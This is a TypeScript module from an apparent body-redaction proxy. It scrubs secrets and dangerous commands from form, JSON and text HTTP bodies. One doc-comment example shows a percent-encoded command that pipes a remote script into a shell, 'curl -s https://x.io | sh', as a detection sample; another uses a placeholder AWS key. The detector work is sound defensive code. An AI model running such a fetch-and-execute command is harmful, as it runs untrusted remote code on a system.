/**
 * Redaction of whole request or response bodies, by content type: JSON stays
 * valid JSON, a form stays a valid form, text is redacted as text.
 *
 * @module
 */

import { decodeBody, formScanText, percentDecode } from "./decode.ts";
import { redactJson } from "./json.ts";
import { type Finding, redactSpans, type Scanner, type ScanReport } from "./scanner.ts";

/**
 * Redacts an `application/x-www-form-urlencoded` body: each key or value that
 * holds (part of) a finding is decoded, redacted and percent-encoded again;
 * every other pair keeps its bytes. Findings are scanned on the whole
 * decoded form (`formScanText`), so `aws_secret_access_key=…` keeps its
 * context; their offsets are into that text.
 *
 * @example
 * ```ts
 * import { compileScanner } from "./scanner.ts";
 * import { redactForm } from "./redact.ts";
 * const scanner = compileScanner({ detectors: ["shell_pipe"] });
 * redactForm("a=1&cmd=curl+-s+https%3A%2F%2Fx.io+%7C+sh", scanner).text;
 * // "a=1&cmd=%5BREDACTED%3Ashell_pipe%5D"
 * ```
 */
export function redactForm(body: string, scanner: Scanner): { text: string; findings: Finding[] } {
  const findings = scanner.scan(formScanText(body));
  if (findings.length === 0) return { text: body, findings };
  const sorted = [...findings].sort((a, b) => a.start - b.start);
  let first = 0; // findings before this one end before the current segment
  let t = 0; // offset of the current segment in the scan text
  const pairs = body.split("&").map((pair) => {
    const eq = pair.indexOf("=");
    const raw = eq === -1 ? [pair] : [pair.slice(0, eq), pair.slice(eq + 1)];
    return raw.map((part) => {
      const dec = percentDecode(part.replace(/\+/g, " "));
      const segEnd = t + dec.length;
      while (first < sorted.length && sorted[first].end <= t) first++;
      const spans: { detector: string; start: number; end: number }[] = [];
      for (let i = first; i < sorted.length && sorted[i].start < segEnd; i++) {
        const f = sorted[i];
        if (f.end > t) {
          spans.push({
            detector: f.detector,
            start: Math.max(f.start, t) - t,
            end: Math.min(f.end, segEnd) - t,
          });
        }
      }
      t = segEnd + 1; // the "=" or the line break between pairs
      return spans.length ? encodeURIComponent(redactSpans(dec, spans)) : part;
    }).join("=");
  });
  return { text: pairs.join("&"), findings };
}

/** Result of {@link redactBody}. */
export interface RedactedBody {
  /**
   * The body to forward. When `changed`, it is UTF-8 and not compressed:
   * drop `Content-Encoding`, set `Content-Length` (or re-chunk), and a
   * non-UTF-8 `charset` parameter should become `utf-8`. Otherwise it is the
   * input, untouched.
   */
  body: Uint8Array;
  /** Findings in the scan text of the body (as `decodeForScan` returns it). */
  findings: Finding[];
  /** False when nothing was found: `body` is the input. */
  changed: boolean;
}

/**
 * Scans a body and returns it redacted: JSON with {@link redactJson}, forms
 * with {@link redactForm}, anything else as text. Returns null when the body
 * is not scanned (binary media, unknown `Content-Encoding`) or is larger than
 * `maxBytes` once decoded — a part that was not read cannot be redacted, so
 * the caller decides (block, or forward with a finding).
 *
 * @example
 * ```ts
 * import { compileScanner } from "./scanner.ts";
 * import { redactBody } from "./redact.ts";
 * const scanner = compileScanner({ detectors: ["aws_access_key"] });
 * const bytes = new TextEncoder().encode('{"key":"AKIAIOSFODNN7EXAMPLE"}');
 * const r = redactBody(bytes, "application/json", null, scanner, 1 << 20)!;
 * new TextDecoder().decode(r.body); // '{"key":"[REDACTED:aws_access_key]"}'
 * ```
 */
export function redactBody(
  bytes: Uint8Array,
  contentType: string | null,
  contentEncoding: string | null,
  scanner: Scanner,
  maxBytes: number,
): RedactedBody | null {
  const d = decodeBody(bytes, contentType, contentEncoding, maxBytes);
  if (d === null || d.truncated) return null;
  // A scan its time budget cut short may have missed what the check found:
  // then the body cannot be redacted safely.
  const report: ScanReport = { cut: [] };
  scanner = scanner.reporting(report);
  let text: string;
  let findings: Finding[];
  if (d.kind === "json") ({ text, findings } = redactJson(d.text, scanner));
  else if (d.kind === "form") ({ text, findings } = redactForm(d.text, scanner));
  else {
    findings = scanner.scan(d.text);
    text = scanner.redact(d.text, findings);
  }
  if (report.cut.length) return null;
  if (findings.length === 0) return { body: bytes, findings, changed: false };
  return { body: new TextEncoder().encode(text), findings, changed: true };
}
